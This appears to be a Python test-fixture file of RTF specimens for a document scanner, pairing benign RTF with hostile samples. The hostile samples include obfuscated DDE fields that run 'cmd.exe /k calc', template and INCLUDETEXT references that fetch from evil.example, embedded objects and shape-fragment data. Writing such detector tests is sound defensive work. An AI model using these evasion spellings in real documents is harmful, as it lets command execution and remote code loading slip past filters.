"""RTF that acts, in the spellings by which readers differ, and RTF as programs write it."""

from __future__ import annotations

from specimens import Specimen

COMMAND = rb"c:\\\\windows\\\\cmd.exe /k calc"


def document(inner):
    return rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Arial;}}\f0 before " + inner + rb" after\par}"


def field(instruction, result=b"result"):
    return rb"{\field{\*\fldinst {" + instruction + rb"}}{\fldrslt {" + result + rb"}}}"


_ACTS = {
    "DDE by numbers with zeros": field(rb"\u0068\u0068\u0069 AUTO " + COMMAND),
    "DDE by numbers with substitutes": field(rb"\u68 P\u68 A\u69 G\u65 E " + COMMAND),
    "DDE by negative numbers": field(rb"\u-65468 ?\u-65468 ?\u-65467 ? " + COMMAND),
    "DDE in pieces": field(rb"{D}{\b D}{{E}}{AUTO }" + COMMAND),
    "DDE with an ignorable group inside": field(rb"DD{\*\evil x}EAUTO " + COMMAND),
    "DDE behind a large ignorable group": field(rb"DD{\*\evil " + b"x" * 5000 + rb"}EAUTO " + COMMAND),
    "DDE in a large group": field(rb"{\b " + b"\r\n" * 3000 + rb" DDE}AUTO " + COMMAND),
    "DDE in a group that is ignored": rb"{\*\evil " + field(rb"DDEAUTO " + COMMAND) + rb"}",
    "DDE by a field that quotes": field(field(rb"QUOTE 68 68 69", b"DDE") + rb" " + COMMAND),
    "DDE by a field that refers": field(field(rb"REF a", b"DDE") + rb" " + COMMAND),
    "DDE in one of two alternatives": field(rb"{\upr{PAGE }{\*\ud{DDEAUTO " + COMMAND + rb"}}}"),
    "DDE in one of two alternatives, by numbers": field(rb"{\upr{PAGE a}{\*\ud \u68 ?\u68 ?\u69 ? " + COMMAND + rb"}}"),
    "DDE in alternatives of alternatives": field(rb"{\upr{PAGE }{\*\ud{D}{\upr{x}{\*\ud DE " + COMMAND + rb"}}}}"),
    "DDE behind a bookmark": field(rb"{\*\bkmkstart a}DDEAUTO " + COMMAND),
    "DDE behind deleted text": field(rb"{\deleted PAGE }DDE " + COMMAND),
    "DDE in upper case words": rb"{\FIELD{\*\FLDINST DDEAUTO " + COMMAND + rb"}{\fldrslt x}}",
    "DDE in a group with other words": rb"{\field{\b\*\fldinst DDEAUTO " + COMMAND + rb"}{\fldrslt x}}",
    "DDE behind octets that are skipped": rb"{\bin9 \par {\par}" + field(rb"DDEAUTO " + COMMAND) + rb"}",
    "DDE in octets that are skipped": rb"\bin60 " + field(rb"DDEAUTO " + COMMAND),
    "object behind half a character": b"\x83\\" + rb"\object\objemb{\*\objdata 0105000002000000}",
    "object in octets that are skipped": rb"{\bin43 {\object\objemb{\*\objdata 0105000002000000}} }",
    "template in the web": rb"{\*\template{} http://evil.example/x.dotm}",
    "template on a server": rb"{\*\template \\\\evil.example\\x.dotm}",
    "template on a server, by numbers": rb"{\*\template \u92 ?\u92 ?evil\'5cx.dotm}",
    "text from the web": field(rb'INCLUDETEXT "http://evil.example/x"'),
    "linked object": field(rb"LINK Excel.Sheet.8 evil"),
    "mail merge": rb"{\*\mailmerge{\*\mmconnectstr DSN=evil}}",
    "fragments of a shape": rb"{\shp{\*\shpinst{\sp{\sn pFra" + b"\n" + rb"gments}{\sv 1;1;01020304}}}}",
    "fragments of a shape, in one group": rb"{\shp{\*\shpinst{\sp\sn pFragments\sv 1;1;01020304}}}",
}
_ORDINARY = {
    "fields": field(rb"\b  PAGE  \\* MERGEFORMAT ") + field(rb'HYPERLINK "https://example.com/?q=DDX" \\o "a tip"'),
    "field with a bookmark": field(rb" {\*\bkmkstart a}FORMTEXT {\*\bkmkend a}"),
    "field without code": field(b" "),
    "template of this machine": rb"{\*\template C:\\Users\\a\\Normal.dotm}",
    "template by its name": rb"{\*\template Normal.dotm}",
    "Japanese in Unicode": rb"\uc2\u26085\'93\'fa\u26412\'96\'7b " + field(rb'TOC \\t "\u35211\'8c\'a9,1"'),
    "Japanese in Shift_JIS": "ソフトの表示".encode("shift_jis").replace(b"\\", rb"\'5c"),
    "text about objects": rb"write \\object, \\objdata, \\template and \{\\fldinst DDE\}",
    "deep": b"{" * 400 + b"x" + b"}" * 400,
    "properties of a shape": rb"{\shp{\*\shpinst\shpleft0{\sp{\sn shapeType}{\sv 202}}{\sp{\sn wzName}{\sv Box}}}}",
}


def acts():
    return {name: Specimen(document(inner), "a.rtf", "application/rtf") for name, inner in _ACTS.items()} | {
        "object behind the end": Specimen(document(b"") + rb"{\object{\*\objdata 0105}}", "a.rtf"),
        "too deep": Specimen(document(b"{" * 600 + b"}" * 600), "a.rtf"),
    }


def ordinary():
    return {name: Specimen(document(inner), "a.rtf", "application/rtf") for name, inner in _ORDINARY.items()}
